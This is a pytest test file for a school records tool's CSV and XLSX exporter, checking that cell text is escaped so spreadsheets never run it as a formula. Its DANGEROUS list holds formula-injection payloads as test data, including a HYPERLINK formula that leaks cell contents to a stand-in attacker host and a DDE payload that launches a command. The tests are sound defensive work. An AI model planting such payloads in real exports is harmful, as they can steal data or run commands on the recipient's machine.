"""Writing CSV and XLSX that a spreadsheet never runs (senco/interop/spreadsheets.py)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from senco.interop.spreadsheets import (
    FORMULA_STARTS,
    Column,
    csv_bytes,
    from_safe_text,
    safe_text,
    sheet_title,
    starts_formula,
    table,
    xlsx_bytes,
    xlsx_text,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
PHONE = "+44 7700 900123"


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def all_cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_dangerous_start_gets_a_quote_in_csv(start):
    assert safe_text(f"{start}1+1") == f"'{start}1+1"
    [_, [cell]] = read_csv(csv_bytes(["Name"], [[f"{start}1+1"]]))
    assert cell == f"'{start}1+1"


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_in_a_csv_is_inert_and_comes_back_exactly(text):
    [heading, [cell]] = read_csv(csv_bytes(["Name"], [[text]]))
    assert heading == ["Name"]
    assert cell.startswith("'") and not starts_formula(cell)
    assert from_safe_text(cell) == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_in_an_xlsx_is_a_string_cell_with_no_visible_quote(text):
    sheet = read_xlsx(xlsx_bytes(["Name"], [[text]], "Pupils"))
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == xlsx_text(text)  # as written: no quote to spoil it
    assert cell.quotePrefix  # and it stays text if someone edits it in Excel


def test_an_xlsx_written_from_formulas_and_error_codes_has_no_formula_cell():
    rows = [[text, "#N/A", "#DIV/0!", "=A1", 1] for text in DANGEROUS]
    sheet = read_xlsx(xlsx_bytes(["=Heading", "b", "c", "d", "e"], rows, "T"))
    assert [c for c in all_cells(sheet) if c.data_type in ("f", "e")] == []
    assert sheet["A1"].value == "=Heading" and sheet["B2"].value == "#N/A"


def test_plain_text_gets_no_quote():
    for text in ["Smith", "O'Brien", "Zoë", "'quoted", "1-2", " =1+1", ""]:
        assert safe_text(text) == text
        assert from_safe_text(safe_text(text)) == text


def test_text_already_quoted_before_a_formula_comes_back_exactly():
    assert safe_text("'=1+1") == "''=1+1"
    assert from_safe_text(safe_text("'=1+1")) == "'=1+1"


def test_a_phone_number_is_text_in_xlsx_and_quoted_in_csv():
    sheet = read_xlsx(xlsx_bytes(["Phone", "Landline"], [[PHONE, "01632 960123"]], "T"))
    assert (sheet["A2"].value, sheet["A2"].data_type) == (PHONE, "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("01632 960123", "s")
    [_, cells] = read_csv(csv_bytes(["Phone", "Landline"], [[PHONE, "01632 960123"]]))
    assert cells == [f"'{PHONE}", "01632 960123"]  # the trade-off DESIGN.md accepts for CSV


def test_numbers_and_dates_stay_numbers_and_dates():
    born = dt.date(2015, 9, 1)
    seen = dt.datetime(2025, 3, 4, 10, 30)
    row = [7, -3, 2.5, Decimal("12.75"), born, seen, True, False, None]
    headings = ["int", "negative", "float", "decimal", "date", "datetime", "yes", "no", "none"]
    sheet = read_xlsx(xlsx_bytes(headings, [row], "T"))
    values = [c.value for c in sheet[2]]
    assert values[:4] == [7, -3, 2.5, 12.75]
    assert [c.data_type for c in sheet[2]][:6] == ["n", "n", "n", "n", "d", "d"]
    assert values[4].date() == born and sheet["E2"].number_format == "dd/mm/yyyy"
    assert values[5] == seen
    assert values[6:] == ["Yes", "No", None]
    [_, cells] = read_csv(csv_bytes(headings, [row]))
    assert cells == ["7", "-3", "2.5", "12.75", "2015-09-01", "2025-03-04 10:30", "Yes", "No", ""]


def test_a_number_excel_would_round_is_kept_as_text_in_xlsx():
    sheet = read_xlsx(xlsx_bytes(["Big", "Fine"], [[12345678901234567890, 123456789012345]], "T"))
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("12345678901234567890", "s")
    assert sheet["B2"].value == 123456789012345


def test_not_a_number_is_text():
    sheet = read_xlsx(xlsx_bytes(["x", "y"], [[float("nan"), float("-inf")]], "T"))
    assert [c.data_type for c in sheet[2]] == ["s", "s"]
    assert read_csv(csv_bytes(["x", "y"], [[float("nan"), float("-inf")]]))[1] == ["nan", "'-inf"]


def test_a_csv_has_a_bom_crlf_and_every_field_quoted():
    data = csv_bytes(["Name", "Year"], [["Zoë", 3], ["Anna; =1+1", 4]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == '"Name","Year"\r\n"Zoë","3"\r\n"Anna; =1+1","4"\r\n'


def test_an_xlsx_has_a_bold_frozen_filtered_header_and_fitted_columns():
    rows = [["A" * 30, 1], ["B", 2]]
    data = xlsx_bytes(["Long heading here", "N"], rows, "SEN register")
    sheet = read_xlsx(data)
    assert sheet.title == "SEN register"
    assert [c.value for c in sheet[1]] == ["Long heading here", "N"]
    assert all(c.font.bold for c in sheet[1]) and not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width == 31
    assert sheet.column_dimensions["B"].width == 6  # never narrower than a few characters


def test_a_sheet_title_is_one_excel_accepts():
    assert sheet_title("Year 7/8: [draft]?") == "Year 7 8   draft"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("''") == "Sheet1"


def test_columns_are_declared_once_for_both_formats():
    columns = [Column("Name", str.upper), Column("Letters", len)]
    headings, rows = table(columns, ["amy", "=bob"])
    assert headings == ["Name", "Letters"] and rows == [["AMY", 3], ["=BOB", 4]]
    assert read_csv(csv_bytes(headings, rows))[2] == ["'=BOB", "4"]
    assert read_xlsx(xlsx_bytes(headings, rows, "T"))["A3"].data_type == "s"


def test_an_empty_table_still_has_its_header():
    assert read_csv(csv_bytes(["UPN"], [])) == [["UPN"]]
    assert [c.value for c in read_xlsx(xlsx_bytes(["UPN"], [], "T"))[1]] == ["UPN"]


# Any text at all: as long as a name might be, and a few long ones.
any_text = st.text(max_size=200)


@given(any_text)
def test_any_text_comes_back_from_a_csv_and_never_starts_a_formula(text):
    [_, [cell]] = read_csv(csv_bytes(["Text"], [[text]]))
    assert not starts_formula(cell)
    assert from_safe_text(cell) == text


@given(st.lists(any_text, min_size=1, max_size=5))
def test_any_text_comes_back_from_an_xlsx_as_a_string_cell(texts):
    sheet = read_xlsx(xlsx_bytes(["Text"] * len(texts), [texts], "T"))
    for text, cell in zip(texts, sheet[2], strict=True):
        assert cell.data_type != "f"
        assert (cell.value or "") == xlsx_text(text)
        if text:
            assert cell.data_type == "s"
